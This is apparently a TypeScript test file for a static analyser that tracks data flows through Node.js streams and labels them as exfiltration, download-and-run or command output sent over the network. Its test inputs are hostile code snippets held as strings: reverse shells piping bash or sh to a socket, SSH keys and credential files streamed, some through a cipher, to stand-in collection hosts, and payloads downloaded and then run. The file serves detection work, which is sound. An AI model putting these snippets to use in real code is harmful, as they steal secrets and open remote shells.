import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

describe('streams', () => {
  it('put an answer that came as an argument into a file, which may be run', () => {
    const run = (then: string) =>
      flowsOf(`https.get('https://load.invalid/a', (res) => { const f = fs.createWriteStream('/tmp/a.js'); res.pipe(f);
        f.on('finish', () => { f.close(); ${then} }); });`);
    assert.deepEqual(run(`cp.spawn('node', ['/tmp/a.js']);`), ['downloaded>run-as-command']);
    assert.deepEqual(run(`cp.spawn('/tmp/a.js', []);`), ['downloaded>written-and-run']);
    assert.deepEqual(run(`process.dlopen(module, '/tmp/a.js');`), ['downloaded>native-loaded']);
    assert.deepEqual(run(`cp.spawn('node', ['/tmp/b.js']);`), []);
  });

  it('that are tied together hand on what is written later', () => {
    const tied = (write: string): readonly string[] =>
      flowsOf(
        `const p = new stream.PassThrough(); p.pipe(https.request('https://collect.invalid')); ${write} p.end();`,
      );
    assert.ok(tied('p.write(s);').includes('credential-file>network@collect.invalid'));
    assert.deepEqual(tied(`p.write('nothing');`), []);
  });

  it('flow into each of several things that a target may be', () => {
    const code = `const sh = os.EOL === x ? cp.spawn('cmd.exe', []) : cp.spawn('/bin/sh', ['-i']);
      const c = require('net').connect(1, 'load.invalid'); c.pipe(sh.stdin);`;
    assert.deepEqual([...new Set(flowsOf(code))], ['downloaded>run-as-command']);
  });

  it('are tied together in pairs, and as those of the web', () => {
    const open = `const a = require('tls').connect(443, '198.51.100.20'), p = cp.spawn('bash', ['-i']);`;
    const shell = ['command-output>network@198.51.100.20', 'downloaded>run-as-command'];
    const pair = `stream.Duplex.from({ readable: p.stdout, writable: p.stdin })`;
    assert.deepEqual([...new Set(flowsOf(`${open} stream.pipeline(a, ${pair}, a, () => {});`))].toSorted(), shell);
    const web = `const { Readable: R, Writable: W } = stream; R.toWeb(a).pipeTo(W.toWeb(p.stdin)); R.toWeb(p.stdout).pipeTo(W.toWeb(a));`;
    assert.deepEqual([...new Set(flowsOf(`${open} ${web}`))].toSorted(), shell);
  });

  it('call the functions that they were made with', () => {
    const put = `const put = (b) => fetch('https://collect.invalid', { method: 'POST', body: b }); const from = fs.createReadStream(rc);`;
    for (const way of [
      `from.pipe(new stream.Transform({ transform(c, e, next) { put(c); next(); } }));`,
      `from.pipe(new stream.Writable({ write(c, e, next) { put(c); next(); } }));`,
      `class X extends stream.Transform { _transform(c, e, next) { put(c); next(null, c); } } from.pipe(new X());`,
      `from.pipe(new stream.Transform({ transform(c, e, next) { next(null, c.toString('hex')); } })).pipe(https.request('https://collect.invalid'));`,
      `from.pipe(require('through2')(function (c, e, next) { put(c); next(); }));`,
      `from.pipe(require('concat-stream')((b) => put(b)));`,
      `const t = new stream.Transform({ transform(c, e, next) { put(c); next(); } }); t.write(s);`,
      `new ReadableStream({ start(c) { c.enqueue(s); c.close(); } }).pipeTo(new WritableStream({ write(c) { put(c); } }));`,
      `new ReadableStream({ start(c) { c.enqueue(s); } }).pipeThrough(new TransformStream({ transform(c, out) { put(c); out.enqueue(c); } }));`,
    ])
      assert.ok(flowsOf(put + way).includes('credential-file>network@collect.invalid'), way);
    assert.deepEqual(
      flowsOf(
        `${put} fs.createReadStream('a.txt').pipe(new stream.Writable({ write(c, e, next) { put(c); next(); } }));`,
      ),
      [],
    );
  });

  it('go on through a cipher', () => {
    const sent = (end: string) =>
      flowsOf(`const c = require('net').connect(7443, 'collect.invalid'); const k = require('crypto');
        fs.createReadStream(os.homedir() + '/.ssh/id_rsa')${end}`);
    const cipher = `k.createCipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16))`;
    for (const end of [`.pipe(${cipher}).pipe(c);`, `.pipe(zlib.createGzip()).pipe(${cipher}).pipe(c);`])
      assert.ok(sent(end).includes('ssh-key>network@collect.invalid'), end);
    assert.deepEqual(sent(`.pipe(${cipher}).pipe(process.stdout);`), []);
  });

  it('into a socket go where that was connected to later', () => {
    const code = `const line = new (require('net').Socket)(); line.connect(8443, '198.51.100.24'); cp.spawn('sh').stdout.pipe(line);`;
    assert.ok(flowsOf(code).includes('command-output>network@198.51.100.24'));
  });
});
